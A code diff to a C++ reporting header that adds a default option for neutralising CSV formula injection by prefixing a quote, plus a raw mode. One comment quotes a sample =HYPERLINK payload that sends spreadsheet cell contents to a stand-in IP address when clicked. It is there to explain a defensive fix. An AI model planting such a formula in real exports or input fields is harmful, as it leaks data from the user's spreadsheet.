@@ -9,6 +9,12 @@ namespace ashiato::report {
 
 enum class TableFormat { kText, kCsv, kJsonLines, kJson };
 
+// CSV cells that start with =, +, -, @, a tab or a carriage return are formulas to a spreadsheet,
+// quoted or not (`=HYPERLINK("http://198.51.100.9/?"&A1,"x")` in a proxy user name sends the sheet
+// away when clicked). kNeutralised, the default, writes them with a leading ' (OWASP's advice);
+// numbers such as -1 and a lone "-" stay as they are. kRaw writes every cell as read (--csv-raw).
+enum class CsvCells { kNeutralised, kRaw };
+
 struct RecordTable {
   std::vector<std::string> columns;
   std::vector<bool> numeric;  // per column: written as a JSON number (when the text is one)
@@ -20,11 +26,13 @@ struct RecordTable {
   }
 };
 
-// Text: columns padded to their widest value, cut at `max_width` characters (with "…").
-std::string format_table(const RecordTable& table, TableFormat format, std::size_t max_width = 60);
+// Text: columns padded to their widest value, cut at `max_width` characters (with "…"), control
+// and invisible characters shown (core/visible_text.h).
+std::string format_table(const RecordTable& table, TableFormat format, std::size_t max_width = 60,
+                         CsvCells cells = CsvCells::kNeutralised);
 // One JSON array of objects, e.g. to nest a table inside a larger JSON document.
 std::string table_json_array(const RecordTable& table);
 // Quotes a CSV field when it needs it.
-void append_csv_field(std::string& out, std::string_view s);
+void append_csv_field(std::string& out, std::string_view s, CsvCells cells = CsvCells::kNeutralised);
 
 }  // namespace ashiato::report
